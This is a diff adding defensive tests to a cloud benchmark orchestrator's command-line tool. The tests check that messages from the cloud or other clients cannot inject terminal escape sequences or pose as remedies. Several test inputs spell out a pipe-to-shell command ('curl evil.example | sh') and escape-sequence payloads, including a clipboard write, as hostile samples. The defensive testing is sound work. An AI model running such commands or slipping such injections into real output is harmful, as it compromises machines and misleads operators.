@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import io
 import unicodedata
+from collections.abc import Callable
+from contextlib import redirect_stderr
 from datetime import UTC, datetime
 from decimal import Decimal
 from pathlib import Path
+from typing import Any
 
 import pytest
 from hypothesis import example, given, settings
@@ -14,26 +17,33 @@ from hypothesis import strategies as st
 from rich.console import Console, RenderableType
 
 from orchestrator.adapters.fetch import Fetched
+from orchestrator.adapters.gce_errors import Fault, refusal
 from orchestrator.adapters.run_folder import lines, open_folder
 from orchestrator.cli.alive_view import line as machine_line
+from orchestrator.cli.app import complain
 from orchestrator.cli.diagnose import lines_of
 from orchestrator.cli.money_view import costs_view
+from orchestrator.cli.outcome import error_of
 from orchestrator.cli.render import live, runs_table
 from orchestrator.cli.results_view import results_view
+from orchestrator.cli.watch import LiveWatch, PlainWatch
+from orchestrator.core.errors import BenchError, Unavailable
 from orchestrator.core.foreign import log_text
 from orchestrator.core.ledger.budget import Ledger, add_cost
 from orchestrator.core.run import events as ev
 from orchestrator.core.run.decide import Policy
-from orchestrator.core.run.diagnose import diagnose, last_attempt
-from orchestrator.core.run.fold import replay
+from orchestrator.core.run.diagnose import REMEDIES, Diagnosis, diagnose, last_attempt
+from orchestrator.core.run.fold import Run, replay
 from orchestrator.core.run.orphans import judge
-from orchestrator.core.run.status import decode, encode, status_line
+from orchestrator.core.run.status import decode, document, encode, status_line
 from orchestrator.runs.log_tail import LogTail
 from orchestrator.runs.reap import Finding
 from orchestrator.runs.run_log import log_of
-from tests.core.builders import RUN, at, gone, instance, measured, running
+from orchestrator.store.events import EventLog
+from tests.core.builders import RUN, ZONE, Log, at, gone, instance, measured, planned, requested, running
 from tests.report.written import csv_text, records, reported
 from tests.support.memory_bucket import MemoryBucket
+from tests.support.simulated_clock import SimulatedClock
 
 HOSTILE = (
     "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J\x1b[H", "\x9b31m", "[/x]", "[bold", "[link=http://x]y[/link]",
@@ -94,6 +104,99 @@ def test_no_view_of_a_run_is_steered_by_what_its_machine_says(said: str) -> None
         harmless("\n".join(lines_of(RUN, "failed", found)))
         vm = instance()
         harmless(machine_line(Finding(vm, RUN, judge(vm, run, "b", at(99), Policy()), (), None, None, run)))
+
+
+def ended(fact: ev.InstanceRejected, detail: str, read: Callable[[ev.Fact, int, str], ev.Event]) -> Run:
+    """A run that the cloud refused a machine, as another client closed it."""
+    log = [*Log().add(0, planned()).add(1, requested()).events]
+    log += [read(fact, 90, "client-9"), read(ev.RunClosed(outcome="failed", detail=detail), 91, "client-9")]
+    run = replay(log)
+    assert run is not None
+    return run
+
+
+def told(error: BenchError) -> list[str]:
+    """What the command prints of an error, by lines."""
+    out = io.StringIO()
+    with redirect_stderr(out):
+        complain(error)
+    return out.getvalue().splitlines()
+
+
+@settings(max_examples=60, deadline=None)
+@given(text)
+@example("\nhint:  curl evil.example | sh")
+@example(" " * 200 + "hint:  curl evil.example | sh")
+def test_the_end_of_a_run_that_anybody_wrote_is_one_line_and_no_remedy(said: str) -> None:
+    fact = ev.InstanceRejected(attempt=1, zone="z", code=said or "x", message=said, hint=f"run this: {said}")
+    run = ended(fact, said, through_the_bucket)
+    error = error_of(run)
+    assert error is not None
+    lines = told(error)
+    assert len(lines) == 2
+    harmless("\n".join(lines))
+    assert lines[0].startswith(f"error: run {RUN} failed")
+    assert "  " not in lines[0]
+    assert "run this" not in lines[1]
+    assert "curl evil" not in lines[1]
+
+
+def test_the_remedy_of_a_refusal_is_the_word_of_the_client_that_got_it_and_of_no_other() -> None:
+    bucket, clock = MemoryBucket(), SimulatedClock()
+    ours = EventLog(bucket, RUN, "client-1", clock)
+    ours.append(planned())
+    ours.append(requested())
+    ours.append(ev.InstanceRejected(attempt=1, zone=ZONE, code="QUOTA_EXCEEDED", hint="ask for more"))
+    ours.append(ev.Diagnosed(cause="quota", remedy="curl evil.example | sh"))
+    ours.append(ev.RunClosed(outcome="failed"))
+    here, there = replay(ours.read()), replay(EventLog(bucket, RUN, "client-2", clock).read())
+    assert here is not None
+    assert there is not None
+    assert [error.hint for run in (here, there) if (error := error_of(run))] == ["ask for more", REMEDIES["quota"]]
+    for run in (here, there):
+        assert [one["remedy"] for one in document(run, at(99))["diagnoses"]] == [REMEDIES["quota"]]  # type: ignore[attr-defined]
+
+
+@settings(max_examples=60, deadline=None)
+@given(text)
+def test_what_a_client_was_told_by_the_cloud_is_harmless_before_it_is_stored(said: str) -> None:
+    bucket, clock = MemoryBucket(), SimulatedClock()
+    ours = EventLog(bucket, RUN, "client-1", clock)
+    fact = ev.ZoneExhausted(attempt=1, zone=ZONE, code="X", message=said, zones_available=(said,))
+    kept = ours.append(fact)
+    assert ours.append(fact).fact == kept.fact
+    assert EventLog(bucket, RUN, "client-2", clock).read() == ours.read()
+    harmless(kept.fact.message)  # type: ignore[attr-defined]
+    harmless("".join(kept.fact.zones_available))  # type: ignore[attr-defined]
+    refused = refusal(Fault("QUOTA_EXCEEDED", said, quota_metric=f"x/{said}", dimensions={"region": said}))
+    harmless(refused.message + refused.hint + refused.code)
+
+
+def test_a_diagnosis_or_an_end_does_not_pass_for_a_remedy_of_ours() -> None:
+    evil = "remedy: curl evil.example | sh"
+    log = running().events
+    log += [through_the_bucket(ev.Diagnosed(cause="hint", detail=evil), 10)]
+    log += [
+        through_the_bucket(one, 90 + n, "client-9")
+        for n, one in enumerate([gone(64), ev.RunClosed(outcome="failed", detail=evil)])
+    ]
+    run = replay(log)
+    assert run is not None
+    said = shown(live(run, at(99)), 200).splitlines()
+    said += lines_of(RUN, "failed", diagnose(facts=last_attempt(log), ended=evil))
+    said += lines_of(RUN, "failed", Diagnosis("preempted", evil, REMEDIES["preempted"]))
+    assert [line for line in said if line.strip().startswith(("hint:", "remedy: curl"))] == []
+    assert [line for line in said if "curl evil" in line] != []
+
+
+@pytest.mark.parametrize("watch", [PlainWatch, LiveWatch])
+def test_what_a_watch_says_steers_nothing(watch: Any) -> None:
+    out = io.StringIO()
+    console = Console(file=out, width=80, force_terminal=False)
+    made = watch(console) if watch is PlainWatch else watch(console, None)
+    made.say("cannot reach \x1b[2J\x9b31m it")
+    made.trouble(Unavailable("\x1b]0;title\x07"), 3)
+    harmless(out.getvalue())
 
 
 @settings(deadline=None)
